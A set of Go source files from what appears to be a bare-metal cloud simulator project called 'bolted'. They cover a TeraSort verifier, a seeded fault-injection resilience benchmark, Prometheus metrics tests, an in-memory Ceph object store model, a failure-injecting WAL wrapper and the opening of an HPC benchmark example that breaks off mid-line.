			maxCount, sumCount := 0.0, 0.0
			prevHi := -1.0
			for r := 0; r < p; r++ {
				rl, rh, rc := bounds[3*r], bounds[3*r+1], bounds[3*r+2]
				total += int64(rc)
				sumCount += rc
				if rc > maxCount {
					maxCount = rc
				}
				if rc > 0 {
					if rl < prevHi {
						sortedGlobally = false
					}
					if rh < rl {
						sortedGlobally = false
					}
					prevHi = rh
				}
				for j := 0; j < 32; j++ {
					inAcc[j] ^= byte(allIn[32*r+j])
					outAcc[j] ^= byte(allOut[32*r+j])
				}
			}
			res.TotalRecords = total
			res.InputChecksum = inAcc
			res.OutputChecksum = outAcc
			res.GloballySorted = sortedGlobally
			res.Balanced = maxCount <= 4*(sumCount/float64(p))
		}
		return c.Barrier()
	})
	if err != nil {
		return nil, err
	}
	return res, nil
}

// keyToFloat maps a key's first 8 bytes to an orderable float64. The
// mapping is monotone over the top 52 bits, which is all the splitter
// logic needs.
func keyToFloat(key []byte) float64 {
	return float64(binary.BigEndian.Uint64(key[:8]) >> 12)
}

// VerifyTeraSort checks a run end to end.
func VerifyTeraSort(cfg TeraSortConfig, worldSize int, r *TeraSortResult) error {
	want := int64(cfg.RecordsPerRank) * int64(worldSize)
	if r.TotalRecords != want {
		return fmt.Errorf("npb: terasort lost records: %d of %d", r.TotalRecords, want)
	}
	if r.InputChecksum != r.OutputChecksum {
		return fmt.Errorf("npb: terasort corrupted records (checksum mismatch)")
	}
	if !r.GloballySorted {
		return fmt.Errorf("npb: terasort output not globally sorted")
	}
	if !r.Balanced {
		return fmt.Errorf("npb: terasort partitions badly skewed")
	}
	return nil
}
