// The fault-injection sweep: chaos validation of the resilience layer
// on the real functional pipeline. Each point in the sweep drives an
// 8-node batch acquire through an in-process cloud whose four backend
// services (HIL, BMI, node driver, registrar) inject seeded transient
// faults at a fixed per-call rate, with retries and circuit breakers
// enabled. The injector's keyed-hash rolls make the whole sweep
// deterministic: the same seed faults the same calls and produces the
// same BENCH_fault.json, which is what lets CI gate on it.
//
// The report's latency percentiles come from the paper's timing model
// (SimulateProvisioning with the same seed and fault rate), not from
// host wall-clock: in-process service calls complete in microseconds,
// so measured wall time would say nothing about a real deployment and
// would differ run to run.
package main

import (
	"context"
	"encoding/json"
	"fmt"
	"os"
	"time"

	"bolted/internal/bmi"
	"bolted/internal/core"
	"bolted/internal/fault"
)

// Sweep shape: the paper's 8-node batch at transient-fault rates from
// healthy to pathological. The seed fixes every injector roll and every
// timing-model penalty.
const (
	faultSeed    = 1337
	faultNodes   = 8
	faultDefault = "BENCH_fault.json"
	// gateRate is the sweep point CI gates on: at 5% per-call transient
	// faults a full batch must still land with zero spurious rejects —
	// one flaky service call must never send a healthy node to the
	// rejected pool.
	gateRate = 0.05
)

// faultPolicy is the resilience policy the sweep runs under: a retry
// budget deep enough to out-last 20%-rate failure streaks, with
// near-zero backoff so the functional sweep finishes in milliseconds
// (the latency cost of backoff is modeled by the timing side, which
// uses the production defaults' shape).
func faultPolicy() core.ResiliencePolicy {
	return core.ResiliencePolicy{
		MaxAttempts:  8,
		RetryBackoff: 100 * time.Microsecond,
		BackoffCap:   time.Millisecond,
		// The breaker must tolerate a 20%-rate run without tripping the
		// cloud into degraded mode mid-batch: this sweep measures retry
		// behavior, the breaker path is proven by the core and guard
		// tests.
		BreakerThreshold: 64,
		BreakerCooldown:  10 * time.Millisecond,
	}
}

// faultRunReport is one sweep point's measured outcome (the wire form
// in BENCH_fault.json). Every field is deterministic in the seed.
type faultRunReport struct {
	Rate            float64 `json:"rate"`
	Acquired        int     `json:"acquired"`
	SpuriousRejects int     `json:"spurious_rejects"`
	Aborted         int     `json:"aborted"`
	BackendCalls    uint64  `json:"backend_calls"`
	InjectedFaults  uint64  `json:"injected_faults"`
	P50S            float64 `json:"p50_s"`
	P99S            float64 `json:"p99_s"`
}

// faultBench is the whole benchmark document written to
// BENCH_fault.json and gated by CI.
type faultBench struct {
	Bench       string           `json:"bench"`
	Seed        int64            `json:"seed"`
	Nodes       int              `json:"nodes"`
	MaxAttempts int              `json:"max_attempts"`
	Runs        []faultRunReport `json:"runs"`
	GateRate    float64          `json:"gate_rate"`
	Pass        bool             `json:"pass"`
}

// faultSweepPoint runs the functional half of one sweep point: a fresh
// in-process cloud, all four backends wrapped with error-rate injection
// at the given rate, resilience on, one batch acquire.
func faultSweepPoint(rate float64) faultRunReport {
	cfg := core.DefaultConfig()
	cfg.Nodes = faultNodes
	cloud, err := core.NewCloud(cfg)
	if err != nil {
		panic(err)
	}
	if _, err := cloud.BMI.CreateOSImage("os", bmi.OSImageSpec{
		KernelID: "k", Kernel: []byte("kernel"), Initrd: []byte("initrd"),
	}); err != nil {
		panic(err)
	}

	// Injection goes innermost (between the real services and the
	// resilience decorators), exactly where a flaky network would sit.
	inj := fault.New(faultSeed)
	defer inj.Close()
	for _, b := range fault.Backends {
		inj.Set(b, fault.Profile{ErrorRate: rate})
	}
	cloud.HIL = fault.WrapHIL(cloud.HIL, inj)
	cloud.BMI = fault.WrapBMI(cloud.BMI, inj)
	cloud.Driver = fault.WrapDriver(cloud.Driver, inj)
	cloud.Registrar = fault.WrapRegistrar(cloud.Registrar, inj)
	if err := cloud.EnableResilience(faultPolicy()); err != nil {
		panic(err)
	}

	e, err := core.NewEnclave(cloud, "t", core.ProfileBob)
	if err != nil {
		panic(err)
	}
	res, err := e.AcquireNodes(context.Background(), "os", faultNodes)
	if err != nil {
		panic(err)
	}

	rep := faultRunReport{
		Rate:            rate,
		Acquired:        len(res.Nodes),
		SpuriousRejects: len(res.Failed),
		Aborted:         len(res.Aborted),
	}
	for _, b := range fault.Backends {
		st := inj.StatsFor(b)
		rep.BackendCalls += st.Calls
		for _, n := range st.Injected {
			rep.InjectedFaults += n
		}
	}

	// Latency half: the paper's timing model with the same seed and
	// rate. faultPenalty charges each faulted attempt a service timeout
	// plus the capped backoff, so the percentiles show what the sweep's
	// retries cost on real hardware.
	tc := core.DefaultProvisionConfig()
	tc.Concurrency = faultNodes
	tc.FaultRate = rate
	tc.Seed = faultSeed
	tc.Resilience = faultPolicy()
	tr := core.SimulateProvisioning(tc)
	lat := make([]float64, 0, len(tr.PerNode))
	for _, d := range tr.PerNode {
		lat = append(lat, d.Seconds())
	}
	rep.P50S = quantile(lat, 0.50)
	rep.P99S = quantile(lat, 0.99)
	return rep
}

func figFault(bool) {
	header("Fault sweep: seeded transient faults vs the resilience layer (functional path)")
	pol := faultPolicy()
	fmt.Printf("%d-node batch, seed %d, retries up to %d attempts, faults on all four backends\n",
		faultNodes, faultSeed, pol.MaxAttempts)

	rates := []float64{0, 0.05, 0.10, 0.20}
	runs := make([]faultRunReport, 0, len(rates))
	fmt.Printf("%-8s %9s %9s %8s %8s %8s %9s %9s\n",
		"rate", "acquired", "rejects", "aborts", "calls", "faults", "p50", "p99")
	for _, rate := range rates {
		r := faultSweepPoint(rate)
		runs = append(runs, r)
		fmt.Printf("%-8.2f %9d %9d %8d %8d %8d %8.0fs %8.0fs\n",
			r.Rate, r.Acquired, r.SpuriousRejects, r.Aborted,
			r.BackendCalls, r.InjectedFaults, r.P50S, r.P99S)
	}

	pass := false
	for _, r := range runs {
		if r.Rate == gateRate {
			pass = r.Acquired == faultNodes && r.SpuriousRejects == 0
		}
	}
	fmt.Printf("gate: %.0f%% fault rate must acquire %d/%d with zero spurious rejects: %s\n",
		gateRate*100, faultNodes, faultNodes, map[bool]string{true: "PASS", false: "FAIL"}[pass])
	fmt.Println("expect: full batches at every rate (retries absorb every injected fault);")
	fmt.Println("faulted attempts pay a service timeout plus backoff, nudging per-node")
	fmt.Println("latencies upward while the airlock-serialized tail keeps p99 anchored")

	doc := faultBench{
		Bench:       "fault",
		Seed:        faultSeed,
		Nodes:       faultNodes,
		MaxAttempts: pol.MaxAttempts,
		Runs:        runs,
		GateRate:    gateRate,
		Pass:        pass,
	}
	b, err := json.MarshalIndent(doc, "", "  ")
	if err != nil {
		panic(err)
	}
	b = append(b, '\n')
	out := benchOut
	if out == "" {
		out = faultDefault
	}
	if err := os.WriteFile(out, b, 0o644); err != nil {
		fmt.Fprintf(os.Stderr, "boltedsim: write %s: %v\n", out, err)
		os.Exit(1)
	}
	fmt.Printf("wrote %s\n", out)
	if benchCheck && !pass {
		fmt.Fprintln(os.Stderr, "boltedsim: fault gate failed")
		os.Exit(1)
	}
}
