package obs

import (
	"math"
	"strings"
	"sync"
	"testing"
)

func promLines(t *testing.T, r *Registry) []string {
	t.Helper()
	var b strings.Builder
	if err := r.WriteProm(&b); err != nil {
		t.Fatalf("WriteProm: %v", err)
	}
	out := strings.Split(strings.TrimRight(b.String(), "\n"), "\n")
	if len(out) == 1 && out[0] == "" {
		return nil
	}
	return out
}

func TestCounterGaugeExposition(t *testing.T) {
	r := NewRegistry()
	r.Counter("bolted_test_total", "a counter").Add(3)
	r.Counter("bolted_test_total", "a counter").Inc()
	g := r.Gauge("bolted_gauge", "a gauge")
	g.Set(7)
	g.Dec()

	lines := promLines(t, r)
	want := []string{
		"# HELP bolted_gauge a gauge",
		"# TYPE bolted_gauge gauge",
		"bolted_gauge 6",
		"# HELP bolted_test_total a counter",
		"# TYPE bolted_test_total counter",
		"bolted_test_total 4",
	}
	if len(lines) != len(want) {
		t.Fatalf("got %d lines, want %d:\n%s", len(lines), len(want), strings.Join(lines, "\n"))
	}
	for i := range want {
		if lines[i] != want[i] {
			t.Errorf("line %d: got %q, want %q", i, lines[i], want[i])
		}
	}
}

// Families must come out sorted by name and series sorted by label
// values, so scrapes are diffable and the format tests deterministic.
func TestSeriesOrdering(t *testing.T) {
	r := NewRegistry()
	v := r.CounterVec("bolted_ordered_total", "ordering", "tenant", "class")
	v.With("zeta", "fg").Inc()
	v.With("alpha", "fg").Add(2)
	v.With("alpha", "bg").Add(5)

	lines := promLines(t, r)
	want := []string{
		"# HELP bolted_ordered_total ordering",
		"# TYPE bolted_ordered_total counter",
		`bolted_ordered_total{tenant="alpha",class="bg"} 5`,
		`bolted_ordered_total{tenant="alpha",class="fg"} 2`,
		`bolted_ordered_total{tenant="zeta",class="fg"} 1`,
	}
	for i := range want {
		if lines[i] != want[i] {
			t.Errorf("line %d: got %q, want %q", i, lines[i], want[i])
		}
	}
}

func TestLabelAndHelpEscaping(t *testing.T) {
	r := NewRegistry()
	r.CounterVec("bolted_escaped_total", "help with \\ and\nnewline", "detail").
		With("quote \" slash \\ line\nbreak").Inc()

	out := strings.Join(promLines(t, r), "\n")
	if !strings.Contains(out, `# HELP bolted_escaped_total help with \\ and\nnewline`) {
		t.Errorf("help not escaped:\n%s", out)
	}
	if !strings.Contains(out, `detail="quote \" slash \\ line\nbreak"`) {
		t.Errorf("label value not escaped:\n%s", out)
	}
}

// Histogram invariants: _bucket counts are cumulative and monotone,
// the +Inf bucket equals _count, and _sum is the sum of observations.
func TestHistogramInvariants(t *testing.T) {
	r := NewRegistry()
	h := r.Histogram("bolted_lat_seconds", "latencies", []float64{0.1, 1, 10})
	for _, v := range []float64{0.05, 0.1, 0.5, 2, 100} {
		h.Observe(v)
	}

	lines := promLines(t, r)
	want := []string{
		"# HELP bolted_lat_seconds latencies",
		"# TYPE bolted_lat_seconds histogram",
		`bolted_lat_seconds_bucket{le="0.1"} 2`, // 0.05 and the boundary value 0.1 (le is inclusive)
		`bolted_lat_seconds_bucket{le="1"} 3`,
		`bolted_lat_seconds_bucket{le="10"} 4`,
		`bolted_lat_seconds_bucket{le="+Inf"} 5`,
		"bolted_lat_seconds_sum 102.65",
		"bolted_lat_seconds_count 5",
	}
	if len(lines) != len(want) {
		t.Fatalf("got %d lines, want %d:\n%s", len(lines), len(want), strings.Join(lines, "\n"))
	}
	for i := range want {
		if lines[i] != want[i] {
			t.Errorf("line %d: got %q, want %q", i, lines[i], want[i])
		}
	}
	if h.Count() != 5 || math.Abs(h.Sum()-102.65) > 1e-9 {
		t.Errorf("Count/Sum = %d/%v, want 5/102.65", h.Count(), h.Sum())
	}
}

// Unsorted, duplicated, +Inf-bearing bucket bounds normalize to a
// clean ascending list.
func TestBucketNormalization(t *testing.T) {
	r := NewRegistry()
	h := r.Histogram("bolted_norm_seconds", "", []float64{5, 1, 1, math.Inf(1), 3})
	h.Observe(2)
	out := strings.Join(promLines(t, r), "\n")
	for _, frag := range []string{`le="1"} 0`, `le="3"} 1`, `le="5"} 1`, `le="+Inf"} 1`} {
		if !strings.Contains(out, frag) {
			t.Errorf("missing %q in:\n%s", frag, out)
		}
	}
	if strings.Count(out, `le="1"`) != 1 {
		t.Errorf("duplicate bound not deduped:\n%s", out)
	}
}

// A nil registry (and everything it hands out) must be safe to use:
// that is the uninstrumented fast path.
func TestNilRegistryIsNoOp(t *testing.T) {
	var r *Registry
	r.Counter("x", "").Inc()
	r.CounterVec("x", "", "a").With("v").Add(2)
	r.Gauge("y", "").Set(1)
	r.GaugeVec("y", "", "a").With("v").Dec()
	r.Histogram("z", "", nil).Observe(1)
	r.HistogramVec("z", "", nil, "a").With("v").Observe(1)
	var b strings.Builder
	if err := r.WriteProm(&b); err != nil || b.Len() != 0 {
		t.Fatalf("nil registry wrote %q, err %v", b.String(), err)
	}
}

func TestConcurrentObservation(t *testing.T) {
	r := NewRegistry()
	c := r.Counter("bolted_conc_total", "")
	h := r.Histogram("bolted_conc_seconds", "", []float64{1})
	var wg sync.WaitGroup
	for i := 0; i < 8; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for j := 0; j < 1000; j++ {
				c.Inc()
				h.Observe(0.5)
			}
		}()
	}
	wg.Wait()
	if c.Value() != 8000 {
		t.Errorf("counter = %v, want 8000", c.Value())
	}
	if h.Count() != 8000 || h.Sum() != 4000 {
		t.Errorf("histogram count/sum = %d/%v, want 8000/4000", h.Count(), h.Sum())
	}
}

func TestSchemaMismatchPanics(t *testing.T) {
	r := NewRegistry()
	r.Counter("bolted_clash", "")
	defer func() {
		if recover() == nil {
			t.Fatal("re-registering as a gauge did not panic")
		}
	}()
	r.Gauge("bolted_clash", "")
}
