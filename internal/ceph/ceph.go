// Package ceph models the RADOS object store backing BMI's image
// service. Like Ceph, it stores fixed 4 MiB objects placed across OSDs
// by deterministic hashing (a rendezvous-hash stand-in for CRUSH) with
// configurable replication, and exposes a striped block-device view of
// an object prefix, which is how RBD-style images are consumed by the
// iSCSI target.
//
// The data plane is real (bytes stored, replicas consistent); the
// performance plane is an analytic OSD service-time model consumed by
// the discrete-event simulation — the paper's 3-host, 27-spindle Ceph
// pool is the bottleneck that bends Figure 5 at 16 concurrent boots.
package ceph

import (
	"crypto/sha256"
	"encoding/binary"
	"fmt"
	"sort"
	"sync"

	"bolted/internal/blockdev"
)

// ObjectSize is the RADOS object (stripe unit) size.
const ObjectSize = 4 << 20

// Cluster is an in-memory object store cluster.
type Cluster struct {
	mu          sync.RWMutex
	osds        []*OSD
	replication int
}

// OSD is one object storage daemon.
type OSD struct {
	ID      int
	mu      sync.RWMutex
	objects map[string][]byte
	down    bool
}

// Down reports whether the OSD is marked failed.
func (o *OSD) Down() bool {
	o.mu.RLock()
	defer o.mu.RUnlock()
	return o.down
}

// NewCluster creates a cluster of numOSDs daemons with the given
// replication factor.
func NewCluster(numOSDs, replication int) (*Cluster, error) {
	if numOSDs < 1 {
		return nil, fmt.Errorf("ceph: need at least one OSD, got %d", numOSDs)
	}
	if replication < 1 || replication > numOSDs {
		return nil, fmt.Errorf("ceph: replication %d invalid for %d OSDs", replication, numOSDs)
	}
	c := &Cluster{replication: replication}
	for i := 0; i < numOSDs; i++ {
		c.osds = append(c.osds, &OSD{ID: i, objects: make(map[string][]byte)})
	}
	return c, nil
}

// NumOSDs returns the cluster size.
func (c *Cluster) NumOSDs() int { return len(c.osds) }

// Replication returns the replica count.
func (c *Cluster) Replication() int { return c.replication }

// placement returns the OSDs holding an object, primary first, via
// rendezvous (highest-random-weight) hashing: deterministic, uniform,
// and minimally disruptive on membership change — the properties CRUSH
// provides.
func (c *Cluster) placement(name string) []*OSD {
	type scored struct {
		osd   *OSD
		score uint64
	}
	scores := make([]scored, len(c.osds))
	for i, o := range c.osds {
		h := sha256.Sum256([]byte(fmt.Sprintf("%s|osd%d", name, o.ID)))
		scores[i] = scored{o, binary.BigEndian.Uint64(h[:8])}
	}
	sort.Slice(scores, func(i, j int) bool { return scores[i].score > scores[j].score })
	out := make([]*OSD, c.replication)
	for i := range out {
		out[i] = scores[i].osd
	}
	return out
}

// PrimaryOSD returns the ID of the primary OSD for an object, used by
// the simulation layer to charge service time to the right queue.
func (c *Cluster) PrimaryOSD(name string) int {
	return c.placement(name)[0].ID
}

// SetOSDDown marks an OSD failed (up=false) or recovered. Failed OSDs
// serve no I/O; reads fail over to surviving replicas and writes land
// on survivors only, exactly the availability property replication
// buys.
func (c *Cluster) SetOSDDown(id int, down bool) error {
	if id < 0 || id >= len(c.osds) {
		return fmt.Errorf("ceph: no OSD %d", id)
	}
	o := c.osds[id]
	o.mu.Lock()
	o.down = down
	o.mu.Unlock()
	return nil
}

// Put stores an object on all its live replicas, defensively copying
// data so the caller may keep reusing its buffer. Hot paths that build
// a fresh slice per object should use PutOwned and skip the copy.
func (c *Cluster) Put(name string, data []byte) error {
	return c.PutOwned(name, append([]byte(nil), data...))
}

// PutOwned stores data on all live replicas without copying: ownership
// of the slice transfers to the cluster and the caller must not modify
// it afterwards. It fails only when every replica placement is down.
func (c *Cluster) PutOwned(name string, data []byte) error {
	if len(data) > ObjectSize {
		return fmt.Errorf("ceph: object %q size %d exceeds %d", name, len(data), ObjectSize)
	}
	stored := 0
	for _, o := range c.placement(name) {
		o.mu.Lock()
		if !o.down {
			o.objects[name] = data
			stored++
		}
		o.mu.Unlock()
	}
	if stored == 0 {
		return fmt.Errorf("ceph: all replicas of %q are down", name)
	}
	return nil
}

// Get fetches an object from its primary, failing over to surviving
// replicas when the primary is down.
func (c *Cluster) Get(name string) ([]byte, bool) {
	for _, o := range c.placement(name) {
		o.mu.RLock()
		if o.down {
			o.mu.RUnlock()
			continue
		}
		d, ok := o.objects[name]
		o.mu.RUnlock()
		if ok {
			return d, true
		}
		// A live replica may lack the object if it was down during the
		// write (degraded object, pending backfill): keep looking.
	}
	return nil, false
}

// ReadAt copies object bytes [off, off+len(dst)) into dst under the
// replica's read lock, failing over like Get, and returns how many
// bytes were copied (short when the object ends early). ok reports
// whether the object exists on any live replica. Unlike Get it never
// exposes the cluster's internal slice, so callers need no defensive
// copy of their own — one copy total instead of two.
func (c *Cluster) ReadAt(name string, dst []byte, off int64) (int, bool) {
	for _, o := range c.placement(name) {
		o.mu.RLock()
		if o.down {
			o.mu.RUnlock()
			continue
		}
		d, ok := o.objects[name]
		if !ok {
			o.mu.RUnlock()
			continue // degraded object, keep looking
		}
		n := 0
		if off < int64(len(d)) {
			n = copy(dst, d[off:])
		}
		o.mu.RUnlock()
		return n, true
	}
	return 0, false
}

// ObjectLen reports the stored length of an object without copying it.
func (c *Cluster) ObjectLen(name string) (int, bool) {
	for _, o := range c.placement(name) {
		o.mu.RLock()
		if o.down {
			o.mu.RUnlock()
			continue
		}
		d, ok := o.objects[name]
		o.mu.RUnlock()
		if ok {
			return len(d), true
		}
	}
	return 0, false
}

// Delete removes an object from all replicas.
func (c *Cluster) Delete(name string) {
	for _, o := range c.placement(name) {
		o.mu.Lock()
		delete(o.objects, name)
		o.mu.Unlock()
	}
}

// ReplicaCount reports on how many OSDs an object currently resides
// (test hook for replication invariants).
func (c *Cluster) ReplicaCount(name string) int {
	n := 0
	for _, o := range c.osds {
		o.mu.RLock()
		if _, ok := o.objects[name]; ok {
			n++
		}
		o.mu.RUnlock()
	}
	return n
}

// TotalObjects returns the number of distinct objects stored.
func (c *Cluster) TotalObjects() int {
	seen := make(map[string]bool)
	for _, o := range c.osds {
		o.mu.RLock()
		for name := range o.objects {
			seen[name] = true
		}
		o.mu.RUnlock()
	}
	return len(seen)
}

// ListPrefix returns the names of objects with the given prefix, sorted.
func (c *Cluster) ListPrefix(prefix string) []string {
	seen := make(map[string]bool)
	for _, o := range c.osds {
		o.mu.RLock()
		for name := range o.objects {
			if len(name) >= len(prefix) && name[:len(prefix)] == prefix {
				seen[name] = true
			}
		}
		o.mu.RUnlock()
	}
	out := make([]string, 0, len(seen))
	for name := range seen {
		out = append(out, name)
	}
	sort.Strings(out)
	return out
}

// DeletePrefix removes all objects with the given prefix (image delete).
func (c *Cluster) DeletePrefix(prefix string) {
	for _, name := range c.ListPrefix(prefix) {
		c.Delete(name)
	}
}

// CopyPrefix duplicates every object under srcPrefix to dstPrefix
// (image clone/snapshot flatten).
func (c *Cluster) CopyPrefix(srcPrefix, dstPrefix string) error {
	for _, name := range c.ListPrefix(srcPrefix) {
		d, ok := c.Get(name)
		if !ok {
			continue
		}
		if err := c.Put(dstPrefix+name[len(srcPrefix):], d); err != nil {
			return err
		}
	}
	return nil
}

// ImageDevice presents the objects under a prefix as a striped block
// device (RBD semantics): sector s lives in object floor(s*512 /
// ObjectSize). Missing objects read as zeros; writes materialize them.
type ImageDevice struct {
	c       *Cluster
	prefix  string
	sectors int64
}

var _ blockdev.VectorDevice = (*ImageDevice)(nil)

// NewImageDevice opens a block view of size bytes over the objects named
// prefix+".<n>".
func NewImageDevice(c *Cluster, prefix string, size int64) (*ImageDevice, error) {
	if size <= 0 || size%blockdev.SectorSize != 0 {
		return nil, fmt.Errorf("ceph: image size %d not a positive sector multiple", size)
	}
	return &ImageDevice{c: c, prefix: prefix, sectors: size / blockdev.SectorSize}, nil
}

func (d *ImageDevice) objName(idx int64) string {
	return fmt.Sprintf("%s.%08d", d.prefix, idx)
}

// NumSectors implements blockdev.Device.
func (d *ImageDevice) NumSectors() int64 { return d.sectors }

// ReadSectors implements blockdev.Device.
func (d *ImageDevice) ReadSectors(dst []byte, start int64) error {
	if len(dst) == 0 || len(dst)%blockdev.SectorSize != 0 {
		return fmt.Errorf("ceph: buffer not sector aligned")
	}
	return d.ReadVector([][]byte{dst}, start)
}

// ReadVector implements blockdev.VectorDevice: one pass over the object
// stripe copies straight into the caller's buffers via Cluster.ReadAt —
// no reference to internal object slices, no staging allocation.
func (d *ImageDevice) ReadVector(bufs [][]byte, start int64) error {
	total, err := blockdev.VectorLen(bufs)
	if err != nil {
		return err
	}
	if start < 0 || start+total/blockdev.SectorSize > d.sectors {
		return blockdev.ErrOutOfRange
	}
	byteOff := start * blockdev.SectorSize
	for _, b := range bufs {
		for len(b) > 0 {
			objIdx := byteOff / ObjectSize
			inObj := byteOff % ObjectSize
			n := int64(len(b))
			if n > ObjectSize-inObj {
				n = ObjectSize - inObj
			}
			seg := b[:n]
			copied, _ := d.c.ReadAt(d.objName(objIdx), seg, inObj)
			// Missing objects and short tails read as zeros.
			for i := copied; i < len(seg); i++ {
				seg[i] = 0
			}
			b = b[n:]
			byteOff += n
		}
	}
	return nil
}

// WriteSectors implements blockdev.Device.
func (d *ImageDevice) WriteSectors(src []byte, start int64) error {
	if len(src) == 0 || len(src)%blockdev.SectorSize != 0 {
		return fmt.Errorf("ceph: buffer not sector aligned")
	}
	return d.WriteVector([][]byte{src}, start)
}

// WriteVector implements blockdev.VectorDevice. Each touched object is
// rebuilt exactly once — preserved prefix/suffix copied in via ReadAt,
// new bytes gathered from the caller's buffers — and handed to the
// cluster with PutOwned. The previous path copied every object twice
// (grow/clone, then Put's defensive copy).
func (d *ImageDevice) WriteVector(bufs [][]byte, start int64) error {
	total, err := blockdev.VectorLen(bufs)
	if err != nil {
		return err
	}
	if start < 0 || start+total/blockdev.SectorSize > d.sectors {
		return blockdev.ErrOutOfRange
	}
	byteOff := start * blockdev.SectorSize
	bi, bo := 0, 0 // gather cursor into bufs
	for remaining := total; remaining > 0; {
		objIdx := byteOff / ObjectSize
		inObj := byteOff % ObjectSize
		n := remaining
		if n > ObjectSize-inObj {
			n = ObjectSize - inObj
		}
		name := d.objName(objIdx)
		oldLen, _ := d.c.ObjectLen(name)
		newLen := inObj + n
		if int64(oldLen) > newLen {
			newLen = int64(oldLen)
		}
		obj := make([]byte, newLen)
		if oldLen > 0 && (inObj > 0 || n < int64(oldLen)) {
			d.c.ReadAt(name, obj[:oldLen], 0)
		}
		for g := obj[inObj : inObj+n]; len(g) > 0; {
			for bo == len(bufs[bi]) {
				bi, bo = bi+1, 0
			}
			cnt := copy(g, bufs[bi][bo:])
			g = g[cnt:]
			bo += cnt
		}
		if err := d.c.PutOwned(name, obj); err != nil {
			return err
		}
		byteOff += n
		remaining -= n
	}
	return nil
}
