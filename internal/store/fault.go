package store

import (
	"errors"
	"sync"
)

// ErrNoSpace is the canned append failure Faulty injects by default,
// standing in for ENOSPC on the WAL device.
var ErrNoSpace = errors.New("store: no space left on device")

// Faulty wraps a Store and injects append and sync failures after a
// configured number of successful calls. Tests use it to prove the Manager
// fails closed: a mutation whose record cannot be made durable must be
// rejected, not acknowledged — including the group-commit path, where the
// record stages cleanly (AppendBuffered) and only the Sync fails.
type Faulty struct {
	inner Store

	mu        sync.Mutex
	remaining int // successful appends left before failures start; -1 = unlimited
	err       error
	appends   int

	syncRemaining int // successful syncs left before failures start; -1 = unlimited
	syncErr       error
	syncs         int
}

// NewFaulty wraps inner with no fault armed.
func NewFaulty(inner Store) *Faulty {
	return &Faulty{inner: inner, remaining: -1, syncRemaining: -1}
}

// FailAppendsAfter arms the fault: the next n Appends succeed, every one
// after that returns err (ErrNoSpace if err is nil).
func (f *Faulty) FailAppendsAfter(n int, err error) {
	if err == nil {
		err = ErrNoSpace
	}
	f.mu.Lock()
	f.remaining = n
	f.err = err
	f.mu.Unlock()
}

// FailSyncsAfter arms the group-commit fault: the next n Syncs succeed,
// every one after that returns err (ErrNoSpace if err is nil). Appends —
// including AppendBuffered staging — keep passing, which is exactly the
// torn group-commit shape: records accepted into the buffer, durability
// refused at the barrier.
func (f *Faulty) FailSyncsAfter(n int, err error) {
	if err == nil {
		err = ErrNoSpace
	}
	f.mu.Lock()
	f.syncRemaining = n
	f.syncErr = err
	f.mu.Unlock()
}

// Heal disarms every armed fault; subsequent Appends and Syncs pass
// through again.
func (f *Faulty) Heal() {
	f.mu.Lock()
	f.remaining = -1
	f.err = nil
	f.syncRemaining = -1
	f.syncErr = nil
	f.mu.Unlock()
}

// Appends reports how many Appends reached the wrapper (including failed
// ones), for asserting that a code path attempted a commit.
func (f *Faulty) Appends() int {
	f.mu.Lock()
	defer f.mu.Unlock()
	return f.appends
}

// Syncs reports how many Syncs reached the wrapper (including failed
// ones), for asserting that a code path attempted a group commit.
func (f *Faulty) Syncs() int {
	f.mu.Lock()
	defer f.mu.Unlock()
	return f.syncs
}

func (f *Faulty) Append(rec Record) error {
	if err := f.admit(); err != nil {
		return err
	}
	return f.inner.Append(rec)
}

// AppendBuffered counts against the same armed fault as Append: a buffered
// record that cannot be staged fails just as loudly.
func (f *Faulty) AppendBuffered(rec Record) error {
	if err := f.admit(); err != nil {
		return err
	}
	return f.inner.AppendBuffered(rec)
}

// admit charges one append against the armed fault.
func (f *Faulty) admit() error {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.appends++
	if f.remaining == 0 {
		return f.err
	}
	if f.remaining > 0 {
		f.remaining--
	}
	return nil
}

func (f *Faulty) Sync() error {
	f.mu.Lock()
	f.syncs++
	if f.syncRemaining == 0 {
		err := f.syncErr
		f.mu.Unlock()
		return err
	}
	if f.syncRemaining > 0 {
		f.syncRemaining--
	}
	f.mu.Unlock()
	return f.inner.Sync()
}

func (f *Faulty) Load() (*Snapshot, []Record, error) { return f.inner.Load() }
func (f *Faulty) Compact(snap *Snapshot) error       { return f.inner.Compact(snap) }
func (f *Faulty) Close() error                       { return f.inner.Close() }
