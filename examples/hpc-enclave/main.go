// HPC enclave: run the real NAS Parallel Benchmark mini-kernels (EP,
// CG, MG, FT) in plain and IPsec-sealed message-passing worlds — the
// live version of Figure 7's question: what does not trusting the
// provider's network cost a real workload? Every kernel verifies its
// numerics, and the printed communication profiles show WHY the apps
// degrade so differently: EP sends a handful of messages, CG more than
// a thousand small ones, FT bulk blocks.
package main

import (
	"fmt"
	"log"
	"time"

	"bolted/internal/npb"
)

func main() {
	const ranks = 4
	fmt.Printf("%-4s %10s %10s %9s %10s %12s\n", "app", "plain", "ipsec", "slowdown", "msgs", "avg msg B")

	type runner func(w *npb.World) error
	kernels := []struct {
		name string
		run  runner
	}{
		{"EP", func(w *npb.World) error {
			r, err := npb.RunEP(w, 200_000)
			if err != nil {
				return err
			}
			return npb.VerifyEP(r)
		}},
		{"CG", func(w *npb.World) error {
			cfg := npb.DefaultCGConfig()
			cfg.N = 512
			r, err := npb.RunCG(w, cfg)
			if err != nil {
				return err
			}
			return npb.VerifyCG(cfg, r)
		}},
		{"MG", func(w *npb.World) error {
			cfg := npb.DefaultMGConfig()
			cfg.PointsPerRank = 256
			r, err := npb.RunMG(w, cfg)
			if err != nil {
				return err
			}
			return npb.VerifyMG(r)
		}},
		{"FT", func(w *npb.World) error {
			cfg := npb.FTConfig{N: 128, Seed: 3}
			r, err := npb.RunFT(w, cfg)
			if err != nil {
				return err
			}
			return npb.VerifyFT(r)
		}},
	}

	for _, k := range kernels {
		var wall [2]time.Duration
		var stats npb.Stats
		for i, secure := range []bool{false, true} {
			best := time.Duration(1<<62 - 1)
			for rep := 0; rep < 3; rep++ {
				w, err := npb.NewWorld(ranks, secure)
				if err != nil {
					log.Fatal(err)
				}
				start := time.Now()
				if err := k.run(w); err != nil {
					log.Fatalf("%s (secure=%v): %v", k.name, secure, err)
				}
				if d := time.Since(start); d < best {
					best = d
				}
				if secure {
					stats = w.Stats()
				}
			}
			wall[i] = best
		}
		slow := float64(wall[1])/float64(wall[0]) - 1
		fmt.Printf("%-4s %10s %10s %+8.0f%% %10d %12.0f\n",
